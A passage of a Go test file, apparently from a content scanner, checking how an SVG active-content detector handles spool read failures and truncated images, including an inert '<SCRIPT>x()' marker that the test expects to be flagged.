	if whole, err := q.fill(r, pieceSize); whole || err != nil || q.size != 2*pieceSize || r.Len() != len(src)-2*pieceSize {
		t.Errorf("over the limit: whole=%v size=%d left=%d err=%v", whole, q.size, r.Len(), err)
	}
}

// TestSVGSpoolFailure: the spool failing under an SVG image is the check's
// error (a tempfail), not a clean image; an image cut short is read as far
// as it goes.
func TestSVGSpoolFailure(t *testing.T) {
	spoolGone := &scan.ReadError{Err: errors.New("disk gone")}
	drawing := []byte(`<svg xmlns="http://www.w3.org/2000/svg">` + strings.Repeat(`<rect width="1" height="1"/>`, 2000))
	if what, err := svgActive(io.MultiReader(bytes.NewReader(drawing), failingReader{spoolGone})); !errors.Is(err, spoolGone) || what != "" {
		t.Errorf("the spool failing: %q %v", what, err)
	}
	broken := append([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><!-- a -- b -->`), drawing[40:]...)
	if what, err := svgActive(io.MultiReader(bytes.NewReader(broken), failingReader{spoolGone})); !errors.Is(err, spoolGone) || what != "" {
		t.Errorf("the spool failing after the XML reader stopped: %q %v", what, err)
	}
	cut := append(drawing[:len(drawing)/2:len(drawing)/2], `<SCRIPT>x()`...)
	if what, err := svgActive(bytes.NewReader(cut)); err != nil || what != "<script>" {
		t.Errorf("cut short after a script: %q %v", what, err)
	}
}
